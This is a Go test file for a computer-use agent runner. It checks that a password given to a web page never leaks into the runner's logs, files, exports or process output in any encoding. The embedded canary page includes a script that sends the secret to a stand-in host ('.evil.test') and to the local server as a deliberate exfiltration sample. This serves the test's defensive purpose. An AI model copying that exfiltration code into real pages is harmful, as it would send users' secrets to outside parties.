package main

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/parquet-go/parquet-go"

	"github.com/cua-runner/cua-runner/cua"
	"github.com/cua-runner/cua-runner/cua/redact"
)

// canaryPage is given a secret on its own origin, and shows it again in every place and spelling that it can
// think of. It counts what it did in the title of the server's answer, so that the test can fail.
const canaryPage = `<!doctype html><meta charset=utf-8><title>start</title><link rel=icon href=data:,>
<form action=/sent><label>Password <input type=password name=p oninput="quiet()"></label>
<label>Copy <input name=copy></label><label>Note <textarea name=note></textarea></label>
<label>Choice <select name=choice><option>none</option></select></label>
<button type=button onclick=mirror()>mirror</button><button type=button onclick="alert(all())">alert</button>
<button type=button onclick="prompt(v(), all())">prompt</button>
<button type=button onclick=cut()>cut</button><button type=button onclick=long()>long</button><button type=button onclick=send()>send</button>
<button>submit</button></form><div id=out></div><p role=alert id=note></p>
<script>
const v = () => document.querySelector('[name=p]').value;
const b64 = s => btoa(unescape(encodeURIComponent(s)));
const hex = s => [...new TextEncoder().encode(s)].map(b => b.toString(16).padStart(2, '0')).join('');
const all = () => [v(), b64(v()), b64('x' + v()), b64('xy' + v() + 'z'), hex(v()), hex(v()).toUpperCase(),
  [...v()].reverse().join(''), encodeURIComponent(v()), encodeURIComponent(encodeURIComponent(v())), JSON.stringify(v()),
  JSON.stringify(JSON.stringify(v())), v().replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;'),
  [...v()].map(c => '&#' + c.codePointAt(0) + ';').join(''),
  [...v()].map(c => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''),
  v().toUpperCase()].join(' | ');
function quiet() { document.title = 'got ' + v(); }
function mirror() {
  const [copy, note, choice] = ['copy', 'note', 'choice'].map(n => document.querySelector('[name=' + n + ']'));
  document.title = all(); out.textContent = all(); document.querySelector('#note').textContent = 'Wrong: ' + v();
  document.querySelector('[name=p]').type = 'text';
  copy.value = v(); copy.placeholder = all(); copy.setAttribute('aria-label', all()); copy.id = v(); note.value = all();
  choice.options[0].textContent = v(); choice.add(new Option(all()));
  document.forms[0].action = '/sent/' + encodeURIComponent(v()) + '#' + v(); document.forms[0].name = v();
  for (const s of all().split(' | ')) {
    out.insertAdjacentHTML('beforeend', '<button type=button></button><a></a><h2></h2>');
    const [b, a, h] = [...out.children].slice(-3);
    b.textContent = s; b.title = s; b.name = s; a.textContent = s; a.href = '/?' + encodeURIComponent(s); h.textContent = s; h.id = s;
  }
  history.pushState({}, '', '/?q=' + encodeURIComponent(v()) + '&b=' + encodeURIComponent(b64(v())) + '#' + encodeURIComponent(v()));
  console.log(all()); console.error(v()); localStorage.setItem(v(), all()); sessionStorage.setItem('k', all());
  document.cookie = 'c=' + encodeURIComponent(v());
  customElements.define('x-' + hex(v()), class extends HTMLElement {}); out.append(document.createElement('x-' + hex(v())));
  window.name = v();
}
// cut shows the secret where each of the lengths to which page text is cut ends within it, and long where those of
// messages, titles and addresses do.
function cut() {
  out.textContent = '';
  for (const s of [v(), encodeURIComponent(v()), b64(v()), v().replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;')])
    for (const n of [40, 52, 60, 80, 172, 180, 192, 200]) {
      const t = 'Cut '.padEnd(n - 7, 'q') + s + ' and more';
      out.insertAdjacentHTML('beforeend', '<section><h3></h3><ul><li><b></b> <button type=button>b</button></ul><input><select><option></select></section>');
      const e = out.lastChild, [input, select, button] = ['input', 'select', 'button'].map(n => e.querySelector(n));
      e.setAttribute('aria-label', t); e.querySelector('h3').textContent = t; e.querySelector('b').textContent = t; button.title = t;
      button.textContent = t; input.name = input.id = input.placeholder = t; select.options[0].textContent = t; select.name = t;
    }
  out.insertAdjacentHTML('beforeend', '<form><button>b</button></form>');
  out.lastChild.action = '/' + 'q'.repeat(72) + v(); out.lastChild.name = 'q'.repeat(54) + v();
}
function long() {
  document.title = 'q'.repeat(993) + v();
  history.replaceState({}, '', '/?' + 'q'.repeat(8192 - 9 - location.origin.length) + v());
  alert('q'.repeat(1993) + v()); prompt('q'.repeat(1995) + v(), 'q'.repeat(1991) + v());
}
function send() {
  fetch('/data?q=' + encodeURIComponent(v()), {method: 'POST', headers: {'X-Canary': b64(v())}, body: all()}).catch(() => {});
  fetch('http://' + hex(v()).slice(0, 60) + '.evil.test/' + encodeURIComponent(v())).catch(() => {});
  const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:1/?' + encodeURIComponent(v()); f.name = v(); document.body.append(f);
  setTimeout(() => { throw new Error(all()) }, 0);
}
</script>`

// The secret itself has what each spelling escapes.
const canaryValue = `c4n"a&ry/ü<+ %7>x`

// A page that was given a secret tells it to nobody through us: not to the brain, the disk, the terminal, an
// export, or the process list.
func TestCanary(t *testing.T) {
	brain, err := filepath.Abs("testdata/canary_brain.py")
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range []struct{ name, browser string }{
		{"headless shell", "/usr/bin/chromium-headless-shell"}, {"full Chromium", "/usr/bin/chromium"},
	} {
		t.Run(row.name, func(t *testing.T) {
			if _, err := os.Stat(row.browser); err != nil || os.Getenv("CUA_BROWSER") != "" {
				row.browser = "" // the one that is there
			}
			var posted []string
			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.Method == http.MethodPost {
					posted = append(posted, r.URL.Query().Get("q"))
				}
				w.Header().Set("Content-Type", "text/html")
				if r.URL.Path != "/" {
					fmt.Fprintf(w, "<!doctype html><title>sent</title>%q", r.URL.Query()["p"])
					return
				}
				fmt.Fprint(w, canaryPage)
			}))
			t.Cleanup(ts.Close)
			dir := t.TempDir()
			sent, run := filepath.Join(dir, "sent"), filepath.Join(dir, "run")
			t.Setenv("CANARY_VALUE", canaryValue)
			args := []string{"run", ts.URL + "/", "--goal", "Sign in.", "--field", "Password=<secret:CANARY>",
				"--secret", "CANARY=env:CANARY_VALUE", "--brain", "exec:python3 " + brain + " " + sent,
				"--out", run, "--har", filepath.Join(run, "run.har"), "--arm", "off", "--browser", row.browser}
			code, stdout, stderr := command(t, args...)
			if code == exitUsage || code == exitInfra || len(posted) == 0 || posted[0] != canaryValue {
				t.Fatalf("exit code %d, the page sent %q: %s %s", code, posted, stdout, stderr)
			}
			found := &canarySearch{t: t}
			found.learnKeys(dir)
			found.in("standard output", []byte(stdout))
			found.in("standard error", []byte(stderr))
			found.inFiles(dir)
			found.inExports(run, dir)
			for _, more := range [][]string{{"show", run}, {"show", run, "--step", "3"}, {"replay", run},
				{"check", run, "--secret", "CANARY=env:CANARY_VALUE"}} {
				code, stdout, stderr := command(t, more...)
				found.in(strings.Join(more[:1], " "), []byte(stdout+stderr))
				if more[0] == "check" && strings.Contains(stdout, "the value of <secret:CANARY>") {
					t.Errorf("check: %d: %s", code, stdout)
				}
			}
			found.canFail(sent)
		})
	}
}

// canarySearch looks for the secret in every spelling, also in letters of another case, and for what is left
// of one that was cut.
type canarySearch struct {
	t     *testing.T
	bytes int
	cells int // texts in Parquet files
	files int // in archives
	cut   int // marks before the sign of a clip
	keys  []string
}

// canaryCut is how much of a spelling may be left of one that was cut, bytes, at most: four characters of the
// value are taken out of it, and those may be escaped.
const canaryCut = 7

func (c *canarySearch) in(what string, text []byte) {
	c.t.Helper()
	c.bytes += len(text)
	c.cut += bytes.Count(text, []byte("<secret:CANARY>…"))
	c.keyIn(what, text)
	lower := bytes.ToLower(text)
	for _, s := range redact.Spellings(canaryValue) {
		form := strings.ToLower(s.Text[:min(len(s.Text), canaryCut)])
		if i := bytes.Index(lower, []byte(form)); i >= 0 && form != "" {
			c.t.Errorf("%s holds the secret, or the beginning of it, %s: …%q…", what, s.How,
				lower[max(0, i-80):min(len(lower), i+80)])
		}
	}
	clean := redact.New(map[string]string{"CANARY": canaryValue}).Text(string(text))
	if clean != string(text) {
		i := 0
		for i < len(clean) && clean[i] == text[i] {
			i++
		}
		c.t.Errorf("%s holds the secret in some spelling: …%q…", what,
			text[max(0, i-80):min(len(text), i+120)])
	}
}

// inFile looks in what a file holds: its text, and what is packed in it.
func (c *canarySearch) inFile(path string, data []byte) {
	c.t.Helper()
	switch {
	case strings.HasPrefix(http.DetectContentType(data), "image/"): // pictures are tested elsewhere
	case bytes.HasPrefix(data, []byte("PK")):
		c.inZip(path, data)
	case bytes.HasPrefix(data, []byte("PAR1")):
		c.in(path, data) // names and least values are not packed
		c.inParquet(path, data)
	default:
		c.in(path, data)
		for i, packed := range base64Run.FindAll(data, -1) {
			plain, _ := base64.RawStdEncoding.DecodeString(strings.TrimRight(string(packed), "="))
			if len(plain) > 0 {
				c.inFile(fmt.Sprintf("%s, base64 number %d", path, i), plain)
			}
		}
	}
}

// base64Run is what may be a file within a text.
var base64Run = regexp.MustCompile(`[A-Za-z0-9+/]{64,}={0,2}`)

func (c *canarySearch) inZip(path string, data []byte) {
	c.t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		c.t.Fatal(path, err)
	}
	for _, f := range z.File {
		c.in(path, []byte(f.Name+f.Comment))
		r, err := f.Open()
		if err != nil {
			c.t.Fatal(path, f.Name, err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			c.t.Fatal(path, f.Name, err)
		}
		c.files++
		c.inFile(path+": "+f.Name, text)
	}
}

func (c *canarySearch) inParquet(path string, data []byte) {
	c.t.Helper()
	f, err := parquet.OpenFile(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		c.t.Fatal(path, err)
	}
	for _, g := range f.RowGroups() {
		rows := g.Rows()
		read := make([]parquet.Row, g.NumRows())
		if n, err := rows.ReadRows(read); n != len(read) {
			c.t.Fatal(path, n, err)
		}
		for _, row := range read {
			for _, cell := range row {
				if cell.Kind() == parquet.ByteArray {
					c.cells++
					c.in(path, cell.ByteArray())
				}
			}
		}
		if err := rows.Close(); err != nil {
			c.t.Fatal(path, err)
		}
	}
}

func (c *canarySearch) inFiles(path string) {
	c.t.Helper()
	err := filepath.WalkDir(path, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(path)
		if err == nil {
			c.inFile(path, text)
		}
		return err
	})
	if err != nil {
		c.t.Error(err)
	}
}

// canaryPairs is a copy of run in which a gate replaced an action that had no effect twice: a preference is
// learned from that alone.
func canaryPairs(t *testing.T, run, to string) string {
	t.Helper()
	if err := os.CopyFS(to, os.DirFS(run)); err != nil {
		t.Fatal(err)
	}
	journal := filepath.Join(to, "journal.jsonl")
	text, err := os.ReadFile(journal)
	if err != nil {
		t.Fatal(err)
	}
	var out []byte
	var steps []*cua.Step
	for line := range bytes.Lines(text) {
		var record struct {
			Type string    `json:"type"`
			Step *cua.Step `json:"step"`
		}
		if json.Unmarshal(line, &record) == nil && record.Type == "step" {
			steps = append(steps, record.Step)
		}
	}
	last := slices.IndexFunc(steps, func(s *cua.Step) bool {
		return s.N > 2 && s.Effect.Any() && s.Proposed.Kind == cua.Click
	})
	if last < 0 {
		t.Fatal("no click had an effect")
	}
	for _, s := range steps[last-2 : last] {
		s.Proposed, s.Target = steps[last].Proposed, steps[last].Target
		s.Action, s.Failure, s.Effect = &s.Proposed, nil, &cua.Effect{}
	}
	steps[last].Action = &cua.Action{Kind: cua.Key, Keys: "Enter"}
	steps[last].Rulings = append(steps[last].Rulings, cua.Ruling{Gate: "recovery", Verdict: cua.Replace})
	n := 0
	for line := range bytes.Lines(text) {
		if bytes.HasPrefix(line, []byte(`{"type":"step"`)) {
			edited, err := json.Marshal(map[string]any{"type": "step", "step": steps[n]})
			if err != nil {
				t.Fatal(err)
			}
			line, n = append(edited, '\n'), n+1
		}
		out = append(out, line...)
	}
	if err := os.WriteFile(journal, out, 0o600); err != nil {
		t.Fatal(err)
	}
	return to
}

// canaryExports are the arguments of exports whose file has all that it can have.
var canaryExports = map[string][][]string{
	"json": {nil, {"--blobs"}}, "jsonl": {nil, {"--blobs"}},
	"sft": {{"--all", "--any-brain"}, {"--all", "--any-brain", "--layout", "llamafactory"}},
	"dpo": {{"--all", "--any-brain"}}, "otel": {nil, {"--content"}}, "inspect": {nil, {"--log-format", "eval"}},
}

// inExports exports the run in every form below dir, and looks in all of them. None may be empty.
func (c *canarySearch) inExports(run, dir string) {
	c.t.Helper()
	pairs := canaryPairs(c.t, run, filepath.Join(dir, "pairs"))
	for _, format := range exportFormats() {
		from := run
		if format == "dpo" {
			from = pairs
		}
		variants := canaryExports[format]
		if variants == nil {
			variants = [][]string{nil}
		}
		for i, more := range variants {
			out := filepath.Join(dir, fmt.Sprintf("export-%s-%d", format, i))
			args := append([]string{"export", from, "--format", format, "--out", out}, more...)
			code, stdout, stderr := command(c.t, args...)
			if code != exitOK {
				c.t.Errorf("export %s: %d: %s %s", format, code, stdout, stderr)
			}
			before := c.bytes
			c.inFiles(out)
			if c.bytes-before < 1000 {
				c.t.Errorf("export %s: %d bytes prove nothing", format, c.bytes-before)
			}
		}
	}
}

// canFail reports whether there was something to find: the brain was sent the page, with marks where the
// secret was, in titles, texts and what it extracted.
func (c *canarySearch) canFail(sent string) {
	c.t.Helper()
	text, err := os.ReadFile(sent)
	if err != nil {
		c.t.Fatal(err)
	}
	plain := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">").Replace(string(text))
	if n := strings.Count(plain, "<secret:CANARY>"); n < 100 || c.bytes < 100_000 || c.cells < 100 ||
		c.files < 3 || c.cut < 20 ||
		!strings.Contains(plain, "<secret:CANARY> | ") ||
		!strings.Contains(plain, "Wrong: <secret:CANARY>") {
		c.t.Errorf("the brain was sent %d marks, and this was searched: %+v", n, *c)
	}
}
